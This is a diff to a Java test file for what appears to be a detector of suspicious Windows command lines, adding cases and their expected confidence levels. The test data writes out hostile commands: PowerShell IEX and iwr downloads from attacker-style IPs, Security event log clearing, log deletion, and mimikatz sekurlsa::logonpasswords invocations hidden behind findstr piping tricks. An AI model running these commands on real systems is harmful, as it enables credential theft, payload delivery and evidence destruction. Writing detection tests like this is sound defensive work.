@@ -72,6 +72,17 @@ class AfterwardsTest {
             + "!something fetched from a command line!MEDIUM",
         "powershell IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/p')"
             + "!something fetched from a command line!LOW",
+        "net localgroup Administrators left /delete"
+            + "!somebody taken out of an administrators' group!LOW",
+        "appcmd install module /name:a /image:\"C:\\Program Files\\watch\\agent.dll\""
+            + "!IIS module added from a command line!LOW",
+        "powershell iwr -OutFile c:\\windows\\temp\\a.msi https://agents.example.test/a.msi"
+            + "!something fetched from a command line!LOW",
+        "powershell iwr http://10.0.0.9/a.msi -OutFile c:\\programdata\\a.msi"
+            + "!something fetched from a command line!LOW",
+        "C:\\ProgramData\\watch\\bin\\curl.exe -s http://203.0.113.9/state"
+            + "!something fetched from a command line!LOW",
+        "curl -o c:\\perflogs\\a http://203.0.113.9/a!something fetched from a command line!MEDIUM",
         "wevtutil cl Security!event log cleared from a command line!LOW",
         "cmd /c del C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex210303.log"
             + "!logs of the web server or of Exchange deleted!LOW",
@@ -140,6 +151,10 @@ class AfterwardsTest {
         "cmd /c \"findstr x y & mimikatz.exe\"",
         "findstr mimikatz a.bat | cmd",
         "cmd /c \"findstr mimikatz a.bat | powershell -\"",
+        "findstr mimikatz a.bat | cmd.exe /q",
+        "findstr mimikatz a.bat | powershell -nop -c -",
+        "findstr mimikatz a.bat | powershell.exe -ep bypass",
+        "C:\\Windows\\Temp\\findstr.exe sekurlsa::logonpasswords",
         "findstr ^\" & mimikatz.exe \"",
         "findstr \"x & mimikatz.exe",
         "C:\\temp\\findstr.exe sekurlsa::logonpasswords",
@@ -166,8 +181,10 @@ class AfterwardsTest {
         .isEqualTo(Confidence.LOW);
     assertThat(Commands.deeds("yara64 sekurlsa::logonpasswords", yara).getFirst().confidence())
         .isEqualTo(Confidence.HIGH);
-    assertThat(Commands.deeds(command, "C:\\Users\\Public\\findstr.exe").getFirst().confidence())
-        .isEqualTo(Confidence.HIGH);
+    for (String folder : new String[] {"Users\\Public", "Windows\\Temp", "x\\Windows\\System32"}) {
+      assertThat(Commands.deeds(command, "C:\\" + folder + "\\findstr.exe").getFirst().confidence())
+          .isEqualTo(Confidence.HIGH);
+    }
   }
 
   @ParameterizedTest
@@ -252,6 +269,7 @@ class AfterwardsTest {
           for (int i = 0; i < 1_000; i++) {
             assertThat(Commands.deeds(packs, "")).isEmpty();
           }
+          assertThat(Commands.deeds("iwr http: \\programdata\\ ".repeat(100_000), "")).hasSize(1);
           String tangled = "cmd /c \"findstr mimikatz x | ";
           assertThat(Commands.deeds(tangled.repeat(30_000), "")).hasSize(1);
           assertThat(Scripts.judge("'mimikatz ".repeat(100_000) + "\"$(<# @'".repeat(9_000), true))
